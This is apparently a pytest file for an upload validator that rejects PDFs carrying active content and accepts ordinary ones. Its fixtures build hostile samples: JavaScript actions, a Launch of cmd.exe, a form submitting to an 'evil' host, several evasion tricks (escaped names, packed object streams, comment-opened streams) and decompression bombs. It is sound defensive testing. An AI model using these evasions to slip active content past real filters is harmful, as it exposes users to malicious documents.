"""Active content of a PDF is found wherever its objects lie, and what cannot be looked into is not waved through."""

from __future__ import annotations

import contextlib
import random
import time
import zlib

import pytest

from workflows import pdf, uploads
from workflows.errors import Invalid

HEAD, TAIL = b"%PDF-1.7\n", b"\ntrailer\n<<>>\n%%EOF\n"
ORDINARY = b"<</Type/Catalog/Pages 2 0 R/OpenAction[3 0 R/Fit]/Names 4 0 R>>"
SCRIPT = b"<</S/JavaScript/JS(app.alert\\(1\\))>>"


def packed(*objects: bytes, dictionary: bytes = b"/Type/ObjStm/Filter/FlateDecode", level: int = 6) -> bytes:
    """Pack objects into an object stream."""
    heads, at = [], 0
    for number, one in enumerate(objects, 10):
        heads.append(b"%d %d" % (number, at))
        at += len(one) + 1
    head = b" ".join(heads) + b"\n"
    data = zlib.compress(head + b"\n".join(objects), level)
    numbers = b"/N %d/First %d/Length %d" % (len(objects), len(head), len(data))
    return b"5 0 obj\n<<" + dictionary + numbers + b">>\nstream\n" + data + b"\nendstream\nendobj\n"


def document(*parts: bytes) -> bytes:
    return HEAD + b"1 0 obj\n" + ORDINARY + b"\nendobj\n" + b"".join(parts) + TAIL


ORDINARY_ONES = {
    "no stream": document(),
    "packed objects": document(packed(ORDINARY, b"<</Type/Font/BaseFont/JSong>>")),
    "text on a page": document(
        b"6 0 obj<</Filter/FlateDecode>>stream\n"
        + zlib.compress(b"1 0 0 1 72 720 cm BT (/JS and more) Tj ET")
        + b"\nendstream"
    ),
    "an encrypted one without packed objects": document(
        b"6 0 obj<</Filter/FlateDecode>>stream\r\n" + bytes(range(256)) + b"\nendstream", b"<</Encrypt 9 0 R>>"
    ),
    "a picture": document(b"6 0 obj<</Filter/DCTDecode>>stream\n\xff\xd8/JS \xff\nendstream"),
}


@pytest.mark.parametrize("name", ORDINARY_ONES)
def test_what_ordinary_programs_write_comes_in(name: str) -> None:
    assert uploads.judge("a.pdf", ORDINARY_ONES[name], 10**7) == uploads.PDF


ACTING = {
    "a script": document(b"6 0 obj" + SCRIPT + b"endobj"),
    "an escaped name": document(b"6 0 obj<</S/Java#53cript/#4a#53(x)>>endobj"),
    "a program to start": document(b"<</S/Launch/F(cmd.exe)>>"),
    "a file within": document(b"<</Names<</EmbeddedFiles 3 0 R>>>>"),
    "a form that sends itself": document(b"<</S/SubmitForm/F(http://evil)>>"),
    "packed": document(packed(ORDINARY, SCRIPT)),
    "packed and escaped": document(packed(b"<</S/J#61vaScript/J#53(x)>>")),
    "packed, the short name alone": document(packed(b"<</S 6 0 R/JS(x)>>")),
    "packed without its type": document(packed(SCRIPT, dictionary=b"/Filter/FlateDecode")),
    "packed behind an escape": document(packed(SCRIPT, dictionary=b"/Type/Obj#53tm/Filter/Fl#61teDecode")),
    "packed twice, the second acts": document(packed(ORDINARY), packed(SCRIPT)),
    "behind a stream that a comment opens": document(b"% stream\n6 0 obj" + SCRIPT + b"endobj\n% endstream\n"),
    "packed behind a stream that a comment opens": document(b"%stream\n", packed(SCRIPT), b"endstream"),
    "packed behind an object that a comment opens": document(
        packed(SCRIPT, dictionary=b"/Type/ObjStm%1 0 obj\n/Filter/FlateDecode")
    ),
    "numbers behind a comment": document(
        b"5 0 obj<<>>stream\n" + zlib.compress(b"% hello\n 10 0 " + SCRIPT) + b"\nendstream"
    ),
}


@pytest.mark.parametrize("name", ACTING)
def test_what_acts_is_refused(name: str) -> None:
    with pytest.raises(Invalid) as refused:
        uploads.judge("a.pdf", ACTING[name], 10**7)
    assert refused.value.fields == {"file": ["active_content"]}


UNSEEN = {
    "encrypted": document(
        packed(ORDINARY).replace(zlib.compress(b"10 0\n" + ORDINARY), random.Random(1).randbytes(99))
    ),
    "another packing": document(b"5 0 obj<</Type/ObjStm/Filter/LZWDecode>>stream\n\x80\x0b\x60\x50\nendstream"),
    "in letters": document(b"5 0 obj<</Type/ObjStm/Filter/ASCIIHexDecode>>stream\n31 32 20>\nendstream"),
    "with a predictor": document(
        packed(ORDINARY, dictionary=b"/Type/ObjStm/Filter/FlateDecode/DecodeParms<</Predictor 12/Columns 1>>")
    ),
    "cut off": document(packed(ORDINARY)[:-40]),
    "without data": document(b"5 0 obj<</Type/ObjStm>>endobj"),
}


@pytest.mark.parametrize("name", UNSEEN)
def test_packed_objects_that_nobody_can_look_into_are_refused(name: str) -> None:
    with pytest.raises(Invalid) as refused:
        uploads.judge("a.pdf", UNSEEN[name], 10**7)
    assert refused.value.fields == {"file": ["cannot_look"]}


def test_a_bomb_of_packed_objects_is_refused_unopened(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(pdf, "MAX_UNPACKED", 100_000)
    many = document(*[packed(b"<<" + b" " * 40_000 + b">>")] * 3)
    for bomb in (many, document(packed(b"<<" + b" " * 10_000_000 + b">>", level=9))):
        with pytest.raises(Invalid) as refused:
            uploads.judge("a.pdf", bomb, 10**8)
        assert refused.value.fields == {"file": ["cannot_look"]}


@pytest.mark.parametrize(
    "unit",
    [
        b"stream\n",
        b"/ObjStm",
        b"stream\nendstream\n",
        b"/ObjStm stream\n",
        b"#53",
        b"/J",
        b"stream\n" + zlib.compress(b"1 0 x"),
    ],
)
def test_no_text_takes_long_to_judge(unit: bytes) -> None:
    content = document(unit * (3_000_000 // len(unit)))
    begun = time.process_time()
    with contextlib.suppress(pdf.CannotLook):
        pdf.acts(content)
    assert time.process_time() - begun < 10
